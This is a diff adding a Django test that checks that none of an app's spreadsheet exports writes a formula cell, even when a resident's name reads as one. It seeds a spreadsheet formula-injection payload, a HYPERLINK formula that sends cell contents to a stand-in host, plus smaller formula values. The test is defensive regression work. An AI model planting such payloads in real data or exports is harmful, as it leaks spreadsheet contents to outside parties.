@@ -80,3 +80,28 @@ def test_every_list_exports_and_personal_ones_are_audited(client, dw):
     client.force_login(dw["leader"])  # leaders read figures, not lists of people
     assert client.post("/staff/insights/export/home-tasks.xlsx").status_code == 403
     assert client.post("/staff/insights/export/coverage.xlsx").status_code == 200
+
+
+def test_no_export_ever_holds_a_formula(client, dw):
+    """A name that reads as a formula (accepted by the registry before names were checked, or typed in
+    a spreadsheet upload) comes back from every workbook Linju writes as text, never a formula."""
+    from linju.insights.exports import EXPORTS
+    from linju.insights.imports import errors_xlsx
+    from linju.people.models import Resident
+
+    evil = '=HYPERLINK("http://example.invalid/?leak="&A1,"点我")'
+    Resident.objects.filter(pk=dw["dai"].pk).update(name=evil)
+    client.force_login(dw["cadre"])
+    books = {key: client.post(f"/staff/insights/export/{key}.xlsx").content for key in EXPORTS}
+    books["cases"] = client.post("/staff/cases/export/").content
+    books["residents"] = client.post("/staff/residents/export/", {"q": ""}).content
+    books["monthly"] = client.get("/staff/insights/monthly-report.xlsx", {"month": "2026-11"}).content
+    books["errors"] = errors_xlsx([{"row": 2, "column": "姓名", "value": "=1+1", "message": "@SUM(A1)"}])
+    seen_evil = False
+    for name, content in books.items():
+        for sheet in load_workbook(BytesIO(content)).worksheets:
+            for row in sheet.iter_rows():
+                for cell in row:
+                    assert cell.data_type != "f", (name, cell.coordinate, cell.value)
+                    seen_evil = seen_evil or cell.value == evil
+    assert seen_evil  # the name itself is kept, as text
